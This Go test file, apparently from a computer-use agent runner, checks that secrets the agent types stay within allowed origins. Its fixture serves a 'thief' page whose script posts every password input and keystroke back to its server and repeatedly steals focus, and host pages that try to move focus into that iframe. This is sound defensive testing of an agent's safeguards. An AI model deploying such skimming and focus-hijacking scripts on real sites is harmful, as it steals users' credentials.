package browser

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/cua-runner/cua-runner/cua"
)

// canary is the value of the secret that no server but the page's own may see.
const canary = "c4nary-Tr0ub4dor"

// thief is a server of another site that keeps all that it is sent. Its page is one field, of which each
// input is sent home at once, and which takes the focus when it is told to.
type thief struct {
	*httptest.Server
	host string // as another site than that of the page under test
	mu   sync.Mutex
	got  strings.Builder
}

func newThief(t *testing.T) *thief {
	t.Helper()
	th := &thief{}
	th.Server = serve(t, func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		th.mu.Lock()
		fmt.Fprintln(&th.got, r.Method, r.URL, r.Header, string(body))
		th.mu.Unlock()
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<!doctype html><body style="margin:0"><input type=password name=password aria-label=Password id=f style="position:absolute;left:0;top:0;width:280px;height:80px">
<script>const home=x=>fetch('/took',{method:'POST',body:x});f.oninput=()=>home('value '+f.value);f.onkeydown=e=>home('key '+e.key);
onmessage=()=>f.focus();if(location.hash=='#greedy')setInterval(()=>f.focus(),1)</script>`)
	})
	th.host = strings.Replace(th.URL, "127.0.0.1", "localhost", 1)
	return th
}

// empty checks that the thief was sent nothing of the secret: not whole, and not by its letters.
func (th *thief) empty(t *testing.T) {
	t.Helper()
	th.mu.Lock()
	defer th.mu.Unlock()
	if got := th.got.String(); strings.Contains(got, canary[:4]) || strings.Contains(got, "key ") ||
		strings.Contains(got, "value ") {
		t.Errorf("the other server was sent\n%s", got)
	}
}

// A secret goes into fields of the start page's host and of those that the task lists, wherever the page that
// is shown has its focus by then.
func TestSecretsStayAtHome(t *testing.T) {
	t.Parallel()
	const frame = `<iframe id=thief src="%s" width=300 height=100 style="position:absolute;left:0;top:300px;border:0"></iframe><script>const take=()=>{thief.focus();thief.contentWindow.postMessage('take','*')}</script>`
	inThief := cua.Point{X: 100, Y: 340}
	for _, tt := range []struct {
		name   string
		own    string // markup of the page's own field
		thief  string // address of the frame
		a      func(o cua.Observation) cua.Action
		allow  bool   // the task lists the thief
		bound  string // whose the secret is alone: mine or theirs; "" is neither
		kind   cua.FailureKind
		landed string // the label of the field that holds the secret; "" is none
	}{
		{name: "the other site's field, which the task lists and the secret is not for", a: into("Password"), allow: true, bound: "mine", kind: cua.FailPolicy},
		{name: "its own field, the secret is for the other site", own: `<input type=password aria-label=Mine>`, a: into("Mine"), allow: true, bound: "theirs", kind: cua.FailPolicy},
		{name: "the other site's field, the secret is for it", a: into("Password"), allow: true, bound: "theirs", landed: "Password"},
		{name: "its own field, the secret is for it", own: `<input type=password aria-label=Mine>`, a: into("Mine"), bound: "mine", landed: "Mine"},
		{name: "its own field", own: `<input type=password aria-label=Mine>`, a: into("Mine"), landed: "Mine"},
		{name: "its own field, pressed", own: `<input type=password aria-label=Mine>`, a: onto("Mine"), landed: "Mine"},
		{name: "its own field, replaced", own: `<input type=password aria-label=Mine value=old>`, a: func(o cua.Observation) cua.Action { a := into("Mine")(o); a.Clear = true; return a }, landed: "Mine"},
		{name: "a field that takes nothing but keys", own: `<input type=password aria-label=Mine value="" onbeforeinput="event.preventDefault()">`, a: into("Mine"), landed: "Mine"},
		{name: "a list", own: `<select aria-label=Mine><option>one<option>` + canary + `</select>`, a: into("Mine"), landed: "Mine"},
		{name: "a text that is written over pages", own: `<textarea aria-label=Mine></textarea>`, a: into("Mine"), landed: "Mine"},
		{name: "a frame of the page's own", own: `<iframe srcdoc="<input type=password aria-label=Mine>"></iframe>`, a: into("Mine"), landed: "Mine"},
		{name: "a frame that has no origin", own: `<iframe sandbox=allow-scripts srcdoc="<input type=password aria-label=Mine>"></iframe>`, a: into("Mine"), kind: cua.FailPolicy},
		{name: "the other site's field by name", a: into("Password"), kind: cua.FailPolicy},
		{name: "the other site's field by place", a: func(cua.Observation) cua.Action { return cua.Action{Point: &inThief} }, kind: cua.FailPolicy},
		{name: "the other site's field, which the task lists", a: into("Password"), allow: true, landed: "Password"},
		{name: "the page moves the focus on focus", own: `<input type=password aria-label=Mine onfocus="take()">`, a: into("Mine"), kind: cua.FailNotInteractable},
		{name: "the page moves the focus when it is pressed", own: `<input type=password aria-label=Mine onmouseup="take()">`, a: onto("Mine"), kind: cua.FailPolicy},
		{name: "the page moves the focus on each key", own: `<input type=password aria-label=Mine onkeydown="take()" onbeforeinput="event.preventDefault()">`, a: into("Mine"), landed: "Mine"},
		{name: "the page moves the focus as text comes", own: `<input type=password aria-label=Mine oninput="take()" onbeforeinput="take()" onselect="take()">`, a: into("Mine"), landed: "Mine"},
		{name: "the other site takes the focus again and again", own: `<input type=password aria-label=Mine>`, thief: "#greedy", a: into("Mine"), landed: "Mine"},
		{name: "nothing has the focus", own: `<input type=password aria-label=Mine>`, a: func(cua.Observation) cua.Action { return cua.Action{} }, kind: cua.FailPolicy},
		{name: "a button has the focus", own: `<button>Mine</button>`, a: onto("Mine"), kind: cua.FailPolicy},
	} {
		t.Run(tt.name, func(t *testing.T) {
			th := newThief(t)
			srv := site(t, map[string]string{"/": `<title>t</title>` + fmt.Sprintf(frame, th.host+"/"+tt.thief) + tt.own})
			e := openBlank(t, SessionOptions{Secrets: map[string]string{"PW": canary}})
			task := cua.Task{URL: srv.URL}
			if tt.allow {
				task.Allow = []string{strings.TrimPrefix(th.host, "http://")}
			}
			if own := map[string]string{"mine": srv.URL, "theirs": th.host}[tt.bound]; own != "" {
				task.SecretOrigins = map[string]string{"PW": own}
			}
			o := e.reset(task)
			a := tt.a(o)
			a.Kind, a.Text = cua.Type, "<secret:PW>"
			out := e.act(a)
			// Where the other site takes the focus all the time the step may fail, as long as nothing goes
			// there.
			if kind := kindOf(out); kind != tt.kind && (tt.thief == "" || kind != cua.FailNotInteractable) {
				t.Errorf("failed as %v, want %q", out.Failure, tt.kind)
			}
			for _, f := range out.After.Fields {
				if holds := f.Secret == "PW"; holds != (f.Label == tt.landed) &&
					(tt.thief == "" || f.Label != tt.landed) {
					t.Errorf("%q holds the secret: %t", f.Label, holds)
				}
				if f.Label == "Password" != (f.Origin == th.host) || f.Label == "Mine" && f.Origin != "" &&
					f.Origin != "null" {
					t.Errorf("the origin of %q is %q", f.Label, f.Origin)
				}
			}
			if f := out.Failure; f != nil && strings.Contains(f.Detail, canary) ||
				strings.Contains(strings.Join(out.Log, " "), canary) {
				t.Errorf("the value is in %v, %q", f, out.Log)
			}
			if !tt.allow || tt.landed != "Password" {
				th.empty(t)
			}
		})
	}
}

func kindOf(out cua.Outcome) cua.FailureKind {
	if out.Failure == nil {
		return ""
	}
	return out.Failure.Kind
}

// into names the field with that label, onto its place.
func into(label string) func(cua.Observation) cua.Action {
	return func(o cua.Observation) cua.Action {
		for _, f := range o.Fields {
			if f.Label == label {
				return cua.Action{Into: f.ID}
			}
		}
		return cua.Action{Into: "none"}
	}
}

func onto(name string) func(cua.Observation) cua.Action {
	return func(o cua.Observation) cua.Action {
		for _, m := range o.Marks {
			if m.Name == name {
				return cua.Action{Mark: m.N}
			}
		}
		return cua.Action{Mark: 99}
	}
}

// The focus that the gates were shown is the one that counts where a secret is typed without a place.
func TestASecretWithoutAPlaceGoesToTheFocusThatWasSeen(t *testing.T) {
	srv := site(t, map[string]string{"/": `<title>t</title><input type=password aria-label=First><input type=password aria-label=Second id=s>`})
	e := openBlank(t, SessionOptions{Secrets: map[string]string{"PW": canary}})
	e.reset(cua.Task{URL: srv.URL})
	e.click("First")
	if _, err := eval[any](t.Context(), e.active.probe.open()[0], `(document.getElementById('s').focus(),'null')`); err != nil {
		t.Fatal(err)
	}
	if out := e.act(cua.Action{Kind: cua.Type, Text: "<secret:PW>"}); kindOf(out) != cua.FailPolicy {
		t.Errorf("failed as %v", out.Failure)
	}
	if out := e.act(cua.Action{Kind: cua.Type, Text: "<secret:PW>"}); out.Failure != nil ||
		out.After.Focus == nil || out.After.Focus.Secret != "PW" {
		t.Errorf("%v, the focus is %+v", out.Failure, out.After.Focus)
	}
}
